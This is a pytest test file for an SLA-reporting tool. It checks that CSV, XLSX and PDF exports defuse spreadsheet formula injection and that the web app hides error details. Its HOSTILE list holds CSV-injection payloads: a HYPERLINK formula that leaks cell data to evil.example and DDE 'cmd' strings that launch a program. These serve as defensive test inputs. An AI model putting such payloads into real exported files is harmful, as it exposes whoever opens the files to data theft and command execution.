"""Exports are safe to open in a spreadsheet: a hostile help-desk export goes in through the real
ingest, and nothing in the CSV or XLSX that comes out can run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from helpers import FIXTURES
from openpyxl import load_workbook

from flows.evidence import evidence_pdf
from sla_engine.reports.exports import csv_bytes, safe_text, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_looking_text_is_shown_as_text(value):
    assert safe_text(value) == "'" + value
    assert safe_text("T-1") == "T-1" and safe_text(-3) == -3  # numbers keep their sign


def test_xlsx_text_cells_are_strings_never_formulas():
    df = pd.DataFrame({"ticket_id": HOSTILE, "minutes": [1, -2, 3, 4, 5]})
    wb = load_workbook(io.BytesIO(xlsx_bytes({"=evil": df})))
    ws = wb.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in ws["A"]][1:] == ["'" + v for v in HOSTILE]
    assert [c.value for c in ws["B"]][1:] == [1, -2, 3, 4, 5]  # numbers stay numbers


def test_a_hostile_export_ingested_and_reported_yields_safe_files(tmp_path):
    store = tmp_path / "store"

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "sla_engine", "--store", str(store), *args],
            capture_output=True,
            text=True,
            cwd=ROOT,
        )

    assert cli("terms", "add", str(FIXTURES / "acme_terms.json")).returncode == 0
    rows = [
        ["ticket_id", "contract_id", "severity", "created_at", "first_response_at", "resolved_at"]
    ]
    for i, tid in enumerate(HOSTILE):
        rows.append([tid, "ACME-2025", "P2", f"2025-03-0{i + 3}T10:00:00-05:00", "", ""])
    rows.append(["T-ok", "ACME-2025", "=P9", "2025-03-04T10:00:00-05:00", "", ""])  # quarantined
    export = tmp_path / "hostile.csv"
    with export.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    r = cli("ingest", str(export), "--profile", "generic")
    assert r.returncode == 0, r.stderr
    clean = tmp_path / "clean.csv"
    with clean.open("w", newline="") as f:
        csv.writer(f).writerows(rows[:-1])
    out = tmp_path / "per-ticket.csv"
    r = cli(
        "evaluate",
        "--tickets",
        str(clean),
        "--terms",
        str(FIXTURES / "acme_terms.json"),
        "--as-of",
        "2025-04-01T00:00:00+00:00",
        "--out",
        str(out),
    )
    assert r.returncode == 0, r.stderr
    q = tmp_path / "quarantine.csv"
    assert cli("quarantine", "--out", str(q)).returncode == 0
    for path in (out, q):
        cells = [c for row in csv.reader(io.StringIO(path.read_text())) for c in row]
        assert cells, path
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path
    per_ticket = pd.read_csv(out, dtype=str)
    assert set(per_ticket["ticket_id"]) >= {"'" + v for v in HOSTILE if not v.startswith("\t")}
    # the breach evidence the Compliance page offers, from the same rows
    evidence = pd.read_csv(io.BytesIO(csv_bytes(per_ticket)), dtype=str)
    assert not evidence["ticket_id"].str.startswith(("=", "+", "-", "@")).any()
    assert evidence_pdf("evidence", [("Contract", "=HYPERLINK(1)")], per_ticket).startswith(b"%PDF")


def test_the_app_shows_no_tracebacks_to_users():
    """An unexpected error shows a generic message in the browser; the details stay in the log:
    a page that fails with a secret in its message, run under the app's own configuration
    (.streamlit/config.toml), sends the browser neither the message nor the stack."""
    code = (
        "import json, streamlit.config as c\n"
        "from streamlit.testing.v1 import AppTest\n"
        "c.get_config_options(force_reparse=True)\n"
        "at = AppTest.from_string(\"raise RuntimeError('db password hunter2')\").run()\n"
        "e = at.exception[0]\n"
        "print(json.dumps({'message': e.message, 'stack': list(e.stack_trace)}))"
    )
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("STREAMLIT_")}
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, env=env, check=True
    )
    shown = json.loads(out.stdout.strip().splitlines()[-1])
    assert "hunter2" not in out.stdout and shown["stack"] == []
